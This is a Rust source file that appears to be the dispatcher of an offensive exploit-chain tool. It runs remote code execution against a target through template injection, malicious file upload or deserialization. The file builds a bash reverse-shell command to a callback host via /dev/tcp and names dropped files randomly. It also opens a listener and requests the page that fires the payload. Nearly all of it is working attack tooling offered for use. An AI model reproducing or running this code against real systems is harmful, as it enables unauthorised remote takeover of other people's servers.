pub mod deserialize;
pub mod php_serialize;
pub mod template;
pub mod upload;

use rand::Rng;
use crate::config::ChainConfig;
use crate::errors::ChainError;
use crate::http::Session;
use crate::listener::{ChannelOpener, ChannelStatus};
use crate::models::RceVariant;
use tracing::{info, warn};

const NAME_ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";

/// `/bin/bash` reverse shell connecting to `host:port`.
pub fn reverse_shell_command(host: &str, port: u16) -> String {
    format!("/bin/bash -c 'bash -i >& /dev/tcp/{}/{} 0>&1'", host, port)
}

/// Random ASCII-letter name for dropped files.
pub fn random_name(len: usize) -> String {
    let mut rng = rand::thread_rng();
    (0..len)
        .map(|_| NAME_ALPHABET[rng.gen_range(0..NAME_ALPHABET.len())] as char)
        .collect()
}

/// Runs one code-execution technique with the established session.
///
/// `Ok` means every request went through. Whether a shell actually
/// connected back is not observable from here.
pub struct RceDispatcher<'a> {
    session: &'a Session,
    config: &'a ChainConfig,
    callback_host: &'a str,
    opener: &'a dyn ChannelOpener,
}

impl<'a> RceDispatcher<'a> {
    pub fn new(
        session: &'a Session,
        config: &'a ChainConfig,
        callback_host: &'a str,
        opener: &'a dyn ChannelOpener,
    ) -> Self {
        Self { session, config, callback_host, opener }
    }

    pub async fn execute_rce(&self, variant: RceVariant) -> Result<(), ChainError> {
        info!(variant = %variant, session = self.session.session_id().is_some(), "Attempting RCE");
        match variant {
            RceVariant::TemplateInjection => template::run(self).await,
            RceVariant::MaliciousUpload => upload::run(self).await,
            RceVariant::Deserialization => deserialize::run(self).await,
        }
    }

    fn reverse_shell(&self) -> String {
        reverse_shell_command(self.callback_host, self.config.shell_port)
    }

    /// Start a listener, request the page that executes the payload, and
    /// give the shell a moment to connect.
    async fn trigger(&self, path: &str) -> Result<(), ChainError> {
        match self.opener.open(self.config.shell_port) {
            ChannelStatus::Requested => info!(
                port = self.config.shell_port,
                opener = self.opener.name(),
                "Reverse shell listener requested"
            ),
            ChannelStatus::Unavailable(reason) => warn!(
                port = self.config.shell_port,
                reason = %reason,
                "No local listener, continuing"
            ),
        }

        tokio::time::sleep(self.config.trigger_delay()).await;

        let url = self.session.url(path);
        match self.session.get_privileged(path, self.config.trigger_timeout()).await {
            Ok(reply) => info!(url = %url, status = reply.status, "Triggered payload"),
            // A spawned shell keeps the request open until it exits
            Err(ChainError::Timeout(_)) => info!(url = %url, "Trigger request held open"),
            Err(e) => return Err(e),
        }

        tokio::time::sleep(self.config.settle_delay()).await;
        Ok(())
    }
}
